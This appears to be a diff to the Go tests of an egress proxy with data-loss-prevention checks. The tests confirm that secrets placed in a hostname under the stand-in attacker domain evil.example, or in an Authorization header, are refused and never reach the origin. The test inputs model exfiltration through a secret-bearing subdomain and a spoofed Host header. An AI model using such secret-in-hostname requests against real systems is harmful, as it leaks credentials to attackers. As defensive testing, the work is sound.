@@ -208,15 +208,45 @@ func TestSecretInURLNeverReachesOrigin(t *testing.T) {
 }
 
 func TestSecretInHostNameIsWithheld(t *testing.T) {
-	e := start(t, Config{Hosts: []string{"api.example"}}, nil, "")
-	c, _, code := e.connect(strings.ToLower(secret) + ".evil.example:443")
-	_ = c
-	if code != http.StatusForbidden {
-		t.Errorf("status %d, want 403", code)
+	host := secret + ".evil.example"
+	t.Run("connect", func(t *testing.T) {
+		e := start(t, Config{Hosts: []string{host}}, names{strings.ToLower(host): {publicAddr}}, "")
+		if _, _, code := e.connect(host + ":443"); code != http.StatusForbidden {
+			t.Errorf("status %d, want 403", code)
+		}
+		if rec := e.only(); rec.Reason != ReasonDLP || rec.Host != Withheld {
+			t.Errorf("record %+v, want dlp_refused with the host withheld", rec)
+		}
+	})
+	t.Run("socks5", func(t *testing.T) {
+		e := start(t, Config{Hosts: []string{host}}, names{strings.ToLower(host): {publicAddr}}, "")
+		if _, reply := socks(t, e.raw(), []byte{0}, 1, socksAtypDomain, []byte(host), 443); reply != 2 {
+			t.Errorf("reply %#x, want 0x02", reply)
+		}
+		if rec := e.only(); rec.Reason != ReasonDLP || rec.Host != Withheld {
+			t.Errorf("record %+v, want dlp_refused with the host withheld", rec)
+		}
+	})
+}
+
+func TestSecretInHeaderNeverReachesOrigin(t *testing.T) {
+	snk := newSink(t, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+	e := start(t, Config{Hosts: []string{"api.example"}}, names{"api.example": {publicAddr}}, snk.addr())
+	req, _ := http.NewRequest(http.MethodGet, "http://api.example/", nil)
+	req.Header.Set("Authorization", "token "+secret)
+	resp, err := e.client(nil).Do(req)
+	if err != nil {
+		t.Fatal(err)
 	}
-	rec := e.only()
-	if rec.Reason != ReasonDLP || rec.Host != Withheld {
-		t.Errorf("record %+v, want dlp_refused with the host withheld", rec)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("status %d, want 403", resp.StatusCode)
+	}
+	if rec := e.only(); rec.Reason != ReasonDLP || strings.Contains(rec.Detail, secret[4:]) {
+		t.Errorf("record %+v, want dlp_refused naming no secret", rec)
+	}
+	if n, got := snk.received(); n != 0 || got != "" {
+		t.Errorf("origin accepted %d connections and read %q, want nothing", n, got)
 	}
 }
 
@@ -265,7 +295,7 @@ func TestCleanPostIsForwardedWithoutHopHeaders(t *testing.T) {
 	e := start(t, Config{Hosts: []string{"api.example"}}, names{"api.example": {publicAddr}}, hostPort(o.Server))
 	c := e.raw()
 	fmt.Fprint(c, "POST http://API.example./submit HTTP/1.1\r\nHost: evil.example\r\n"+
-		"Proxy-Authorization: Basic Zm9vOmJhcg==\r\nConnection: X-Drop\r\nX-Drop: 1\r\nX-Keep: 2\r\n"+
+		"Proxy-Authorization: Basic Zm9vOmJhcg==\r\nProxy-Token: p\r\nConnection: X-Drop\r\nX-Drop: 1\r\nX-Keep: 2\r\n"+
 		"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
 	answer, _ := readAllQuiet(c)
 	if !strings.HasPrefix(answer, "HTTP/1.1 200 ") || !strings.HasSuffix(answer, "hello from origin") {
@@ -277,7 +307,7 @@ func TestCleanPostIsForwardedWithoutHopHeaders(t *testing.T) {
 	o.mu.Lock()
 	h, host := o.hdrs[0], o.host[0]
 	o.mu.Unlock()
-	if h.Get("Proxy-Authorization") != "" || h.Get("X-Drop") != "" || h.Get("X-Keep") != "2" {
+	if h.Get("Proxy-Authorization") != "" || h.Get("Proxy-Token") != "" || h.Get("X-Drop") != "" || h.Get("X-Keep") != "2" {
 		t.Errorf("origin headers %v, want no Proxy-* or Connection-named headers, X-Keep kept", h)
 	}
 	if host != "API.example." {
